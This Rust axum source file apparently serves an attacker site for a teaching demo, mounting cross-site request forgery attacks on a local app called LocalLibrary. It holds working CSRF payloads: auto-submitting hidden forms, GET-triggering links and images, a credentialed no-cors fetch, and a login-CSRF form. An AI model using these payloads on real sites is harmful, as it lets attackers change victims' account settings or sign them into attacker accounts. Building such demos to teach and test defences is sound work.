//! The other site. Each of its pages attacks LocalLibrary in its own way.

use std::convert::Infallible;

use axum::{
    Router,
    extract::FromRequestParts,
    http::{header::HOST, request::Parts},
    response::Html,
    routing::get,
};

/// The attacker's whole site. `port` is where LocalLibrary listens.
pub fn app(port: u16) -> Router {
    Router::new()
        .route("/", get(show_attacks))
        .route("/form", get(send_form))
        .route("/link", get(show_link))
        .route("/image", get(show_image))
        .route("/fetch", get(fetch))
        .route("/sign-in", get(sign_in))
        .with_state(port)
}

async fn show_attacks(Victim(victim): Victim) -> Html<String> {
    page(
        "Another site",
        &format!(
            r#"<p>Sign in at <a href="{victim}">{victim}</a>, and then open one of these:</p>
            <ul>
              <li><a href="/form">A form</a> that changes your reminder address</li>
              <li><a href="/link">A link</a> that stops your reminders</li>
              <li><a href="/image">An image</a> that stops your reminders</li>
              <li><a href="/fetch">A script</a> that changes your reminder address</li>
              <li><a href="/sign-in">A form</a> that signs you in as Mallory</li>
            </ul>"#
        ),
    )
}

/// The script submits the form at once. Without scripts, the visitor has to press the button.
async fn send_form(Victim(victim): Victim) -> Html<String> {
    page(
        "You have won a book",
        &format!(
            r#"<form method="post" action="{victim}/reminders">
              <input type="hidden" name="address" value="mallory@evil.example">
              <button>Show me the book</button>
            </form>
            <script>document.forms[0].submit()</script>"#
        ),
    )
}

async fn show_link(Victim(victim): Victim) -> Html<String> {
    page(
        "You have won a book",
        &format!(r#"<a href="{victim}/reminders/stop">Show me the book</a>"#),
    )
}

async fn show_image(Victim(victim): Victim) -> Html<String> {
    let image = format!(r#"<img src="{victim}/reminders/stop" alt="">"#);
    page("A picture of a book", &format!("<p>It is not there?</p>{image}"))
}

/// `no-cors` forbids the script to read the answer. The request is sent all the same.
async fn fetch(Victim(victim): Victim) -> Html<String> {
    page(
        "A review of a book",
        &format!(
            r#"<p>Loading …</p>
            <script>
              fetch("{victim}/reminders", {{
                method: "POST",
                mode: "no-cors",
                credentials: "include",
                body: new URLSearchParams({{ address: "mallory@evil.example" }}),
              }}).then(() => document.querySelector("p").className = "sent");
            </script>"#
        ),
    )
}

async fn sign_in(Victim(victim): Victim) -> Html<String> {
    page(
        "You have won a library card",
        &format!(
            r#"<form method="post" action="{victim}/sign-in">
              <input type="hidden" name="reader" value="Mallory">
              <button>Show me the card</button>
            </form>
            <script>document.forms[0].submit()</script>"#
        ),
    )
}

fn page(title: &str, body: &str) -> Html<String> {
    Html(format!(
        r#"<!doctype html>
        <html lang="en">
        <meta charset="utf-8">
        <meta name="viewport" content="width=device-width, initial-scale=1">
        <title>{title}</title>
        <body style="font: 100%/1.6 serif; max-width: 40rem; margin: 2rem auto; padding: 0 1rem">
        <main><h1>{title}</h1>{body}</main>"#
    ))
}

/// LocalLibrary, under the name that this page's own name goes with: another origin of the same
/// site, or another site.
struct Victim(String);

impl FromRequestParts<u16> for Victim {
    type Rejection = Infallible;

    async fn from_request_parts(parts: &mut Parts, port: &u16) -> Result<Victim, Infallible> {
        let host = parts.headers.get(HOST).and_then(|host| host.to_str().ok()).unwrap_or_default();
        let victim = match host.starts_with("evil.library.localhost") {
            true => "library.localhost",
            false => "127.0.0.1",
        };
        Ok(Victim(format!("http://{victim}:{port}")))
    }
}
